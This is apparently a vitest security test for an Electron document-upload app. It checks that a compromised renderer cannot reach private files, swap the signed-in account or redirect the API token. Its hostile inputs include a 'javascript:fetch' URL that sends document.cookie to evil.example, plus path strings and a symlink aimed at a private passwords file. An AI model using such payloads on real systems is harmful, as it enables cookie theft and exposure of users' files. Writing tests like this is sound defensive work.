// A compromised renderer: script in the page drives the real preload bridge (electron mocked) wired to the real main process and
// a real emulator, with everything a hostile page could send. Each attempt is refused or needs the native confirmation, nothing
// is uploaded, and no answer quotes a file's content.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { APP_INDEX_URL } from '../../../electron/core/desktop/app-protocol';
import { createMemorySettingsStore } from '../../../electron/core/desktop/settings-store';
import { createMemoryStore } from '../../../electron/core/secret-store';
import { IPC_CHANNELS, type RaydocsBridge } from '../../../shared/ipc';
import { startEmulator, type RunningEmulator } from '../../emulator/index';
import { writeFile } from '../../fixtures/make-files';
import { createFakeElectron } from './fake-electron';

type FakeElectron = ReturnType<typeof createFakeElectron>;
const root = mkdtempSync(join(tmpdir(), 'raydocs-hostile-'));
const userData = join(root, 'user-data');
const fake = vi.hoisted(() => ({
  value: null as null | FakeElectron,
  exposed: new Map<string, unknown>(),
  /** Files from a real drop, as Electron knows them: only these resolve to a path. */
  realFiles: new WeakMap<object, string>(),
  boxes: [] as Array<{ message?: string; detail?: string }>,
}));
vi.mock('electron', () => {
  fake.value ??= createFakeElectron(userData);
  const e = fake.value.electron;
  // Every native question is declined: what needs a confirmation must not happen.
  e.dialog.showMessageBox = async (...args: unknown[]) => {
    fake.boxes.push(args.at(-1) as { message?: string; detail?: string });
    return { response: 1 };
  };
  const frame = { url: APP_INDEX_URL, parent: null };
  const ipcRenderer = {
    // The page's own top frame at our origin: the sender check passes, so only main's own decisions stand in the way.
    invoke: (channel: string, args: unknown) => fake.value!.state.handlers.get(channel)!({ senderFrame: frame, sender: { mainFrame: frame } }, args),
    on: () => undefined,
    removeListener: () => undefined,
  };
  const extra = {
    contextBridge: { exposeInMainWorld: (key: string, api: unknown) => void fake.exposed.set(key, api) },
    ipcRenderer,
    webUtils: { getPathForFile: (f: object) => fake.realFiles.get(f) ?? '' },
  };
  return { ...e, ...extra, default: { ...e, ...extra } };
});
vi.mock('electron-store', () => ({ default: class {} }));

const { startMain } = await import('../../../electron/main/app-main');
let emu: RunningEmulator;
let running: Awaited<ReturnType<typeof startMain>> = null;
let bridge: RaydocsBridge;
const secrets = createMemoryStore();

// The person's private files, which the page must never reach.
const privateDir = join(root, 'Documents');
const SECRET = 'SECRET-PASSWORD hunter2';
mkdirSync(privateDir, { recursive: true });
writeFile(join(privateDir, 'tax-return.pdf'), 'pdf');
writeFileSync(join(privateDir, 'passwords.pdf'), `${SECRET}\n`);

beforeAll(async () => {
  emu = await startEmulator({ rateLimit: null, parsing: { stepMs: 30 } });
  await secrets.set(emu.token);
  running = await startMain({ env: {}, secretStore: secrets, settings: createMemorySettingsStore({ apiBaseUrl: emu.url }), engineOptions: { pollIntervalMs: { initial: 50, max: 200 } } });
  await import('../../../electron/preload/index');
  bridge = fake.exposed.get('raydocs') as RaydocsBridge;
});
afterAll(async () => {
  await running?.quit();
  await emu?.close();
  rmSync(root, { recursive: true, force: true });
});

const page = () => bridge as unknown as Record<string, (args: unknown) => Promise<{ ok: boolean; value?: unknown; error?: { code: string; message: string } }>>;
function target() {
  const ws = emu.seed.workspaces[0]!;
  const s = ws.sessions[0]!;
  return { kind: 'session', workspaceId: ws.id, sessionId: s.id, sessionName: s.name };
}
const uploads = () => emu.inspect().uploads;
const queued = () => running!.service.queue.summary().total;

describe('a compromised renderer', () => {
  it('a File the page made resolves to no path: refused by name, nothing read or uploaded', async () => {
    const r = await page()['queue:add']!({ files: [new File([SECRET], 'passwords.pdf'), new File(['%PDF-1.4'], 'id_rsa')], target: target() });
    expect(r).toMatchObject({ ok: true, value: { accepted: 0, refused: [{ path: 'passwords.pdf' }, { path: 'id_rsa' }] } });
    expect(JSON.stringify(r)).not.toContain(privateDir);
    expect(queued()).toBe(0);
  });

  it('path strings on every channel: nothing queued, revealed, opened or uploaded, and no file content in any answer', async () => {
    const secretFile = join(privateDir, 'passwords.pdf');
    const hostile = {
      paths: [privateDir, secretFile],
      files: [privateDir, secretFile],
      path: secretFile,
      unresolved: [secretFile],
      url: `file://${secretFile}`,
      input: secretFile,
      itemId: secretFile,
      ids: [secretFile],
      kind: 'files',
      target: target(),
      id: secretFile,
    };
    const answers: unknown[] = [];
    for (const channel of IPC_CHANNELS) {
      // Skip the two the person may legitimately use with these names: signing out and the dialog (declined below).
      if (channel === 'auth:sign-out' || channel === 'dialog:pick') continue;
      answers.push(await page()[channel]!(hostile));
    }
    const text = JSON.stringify(answers);
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain('hunter2');
    expect(queued()).toBe(0);
    expect(state().opened).toEqual([]);
    expect(uploads()).toBe(0);
  });

  it('dialog:pick takes no path from the page: main shows its own dialog (cancelled here) and queues nothing', async () => {
    expect(await page()['dialog:pick']!({ kind: 'files', target: target(), paths: [privateDir] })).toMatchObject({ ok: false, error: { code: 'invalid-arguments' } });
    expect(await page()['dialog:pick']!({ kind: 'files', target: target() })).toEqual({ ok: true, value: null });
    expect(queued()).toBe(0);
  });

  it('javascript: and remote http API URLs are refused; another https origin needs the native confirmation', async () => {
    for (const apiBaseUrl of ['javascript:fetch("https://evil.example/"+document.cookie)', 'http://evil.example', 'http://evil.example:80/api']) {
      expect(await page()['settings:set']!({ apiBaseUrl })).toMatchObject({ ok: false, error: { code: 'invalid-arguments' } });
    }
    const before = fake.boxes.length;
    expect(await page()['settings:set']!({ apiBaseUrl: 'https://evil.example' })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(fake.boxes.slice(before)).toEqual([expect.objectContaining({ message: 'Send your Raydocs token to evil.example?' })]);
    await expect(running!.service.invoke('settings:get', undefined)).resolves.toMatchObject({ ok: true, value: { apiBaseUrl: emu.url } });
  });

  it('a second sign-in needs the native confirmation naming both accounts; declined, the keychain keeps the first token', async () => {
    const attacker = emu.createToken({ workspaceIds: [emu.seed.workspaces[1]!.id] });
    const before = fake.boxes.length;
    expect(await page()['auth:sign-in']!({ token: attacker })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    const asked = fake.boxes.slice(before);
    expect(asked).toHaveLength(1);
    expect(asked[0]!.message).toBe('Replace the signed-in account?');
    expect(asked[0]!.detail).toContain(emu.seed.workspaces[1]!.name);
    expect(await secrets.get()).toBe(emu.token);
    // Sign-out asks too.
    expect(await page()['auth:sign-out']!(undefined)).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(await secrets.get()).toBe(emu.token);
  });

  it('a dropped folder holding a link to a private folder: the link is skipped and counted, its files never uploaded', async () => {
    const pack = join(root, 'invoice-pack');
    mkdirSync(pack, { recursive: true });
    writeFile(join(pack, 'invoice-1.pdf'), 'pdf', 'pack');
    symlinkSync(privateDir, join(pack, 'more'));
    const dropped = new File([''], 'invoice-pack');
    fake.realFiles.set(dropped, pack);
    const r = await page()['queue:add']!({ files: [dropped], target: target() });
    expect(r).toMatchObject({ ok: true, value: { accepted: 1, linksOutside: 1, refused: [] } });
    const snap = await running!.service.invoke('queue:snapshot', undefined);
    expect(snap.ok && snap.value.items.map((i) => i.path)).toEqual([join(pack, 'invoice-1.pdf')]);
  });
});

function state() {
  return fake.value!.state;
}
